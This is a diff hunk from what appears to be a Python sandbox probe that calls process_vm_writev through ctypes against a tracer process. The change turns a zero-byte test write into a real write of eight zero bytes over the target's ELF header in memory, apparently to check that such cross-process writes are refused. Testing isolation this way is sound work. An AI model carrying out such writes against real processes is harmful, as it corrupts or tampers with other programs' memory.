@@ -97,8 +97,8 @@ def writev(tracer):
         pass  # the write is refused before its address is looked at
     data = ctypes.create_string_buffer(8)
     local = (ctypes.c_void_p * 2)(ctypes.addressof(data), 8)
-    remote = (ctypes.c_void_p * 2)(address, 0)
-    call("process_vm_writev", tracer, local, 1, remote, 1, 0)  # zero bytes: harmless
+    remote = (ctypes.c_void_p * 2)(address, 8)  # 8 zero bytes over its ELF header
+    call("process_vm_writev", tracer, local, 1, remote, 1, ctypes.c_long(0))
 
 if mode == "probe":
     def read():
